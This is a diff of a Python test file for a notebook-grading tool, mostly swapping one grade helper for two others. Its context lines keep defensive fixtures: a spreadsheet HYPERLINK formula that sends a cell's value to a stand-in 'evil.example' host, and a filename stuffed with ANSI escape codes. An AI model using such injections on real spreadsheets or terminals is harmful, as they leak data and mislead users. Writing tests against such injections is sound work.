@@ -20,7 +20,7 @@ from test_grading import FULL, HEADER, solution_source, write_notebook
 from labutils.grading import cli as grading_cli
 from labutils.grading import intake, pool
 from labutils.grading.report import feedback_names, printable, spreadsheet_cell, write_reports
-from labutils.grading.submissions import failed_grade
+from labutils.grading.submissions import student_grade, unfinished_report
 
 FORMULA = '=HYPERLINK("evil.example?"&A1,"more marks")'
 ANSI_NAME = "\x1b[2J\x1b[31mhacked.ipynb"
@@ -150,7 +150,7 @@ def test_a_full_disk_while_writing_reports_is_one_line_and_grades_csv_comes_firs
         written.append(Path(path).name)
         return real_write(path, text)
 
-    grades = [failed_grade(name, [], "a note") for name in ("ann", "bob")]
+    grades = [student_grade(name, [], [unfinished_report(Path("lab.ipynb"), "a note")]) for name in ("ann", "bob")]
     monkeypatch.setattr(grading_cli, "grade_all", lambda *args: grades)
     monkeypatch.setattr(report, "atomic_write_text", fill_up)
     (tmp_path / "ann.ipynb").write_text("{}")
@@ -173,8 +173,9 @@ def test_one_feedback_that_cannot_be_written_does_not_lose_the_others(tmp_path, 
 
     monkeypatch.setattr(report, "atomic_write_text", refuse_bob)
     with pytest.raises(OSError, match="1 of 3 feedback file"):
-        write_reports([failed_grade(name, [], "a note") for name in ("ann", "bob", "cid")], tmp_path, seed=1)
-    assert sorted(p.name for p in (tmp_path / "feedback").iterdir()) == ["ann.txt", "cid.txt"]
+        grades = [student_grade(name, [], [unfinished_report(Path("x.ipynb"), "a note")]) for name in ("a", "bob", "c")]
+        write_reports(grades, tmp_path, seed=1)
+    assert sorted(p.name for p in (tmp_path / "feedback").iterdir()) == ["a.txt", "c.txt"]
 
 
 # --- one hostile batch, graded once ----------------------------------------------------------------
@@ -296,6 +297,7 @@ def test_a_cell_of_thousands_of_magics_is_compared_in_a_moment():
     plain = inspect.getsource(student_code.get_batch)
     magics = "x = !true\n" * 1900 + "%time y = 1\n" + plain  # IPython's own transformation: 33 s, then gave up
     started = time.monotonic()
-    digests = [exercise_digests(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(s)])) for s in (magics, plain)]
+    digests = [exercise_digests(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(text)]))
+               for text in (magics, plain)]
     assert time.monotonic() - started < 2
     assert digests[0] == digests[1] and "get_batch" in digests[0]
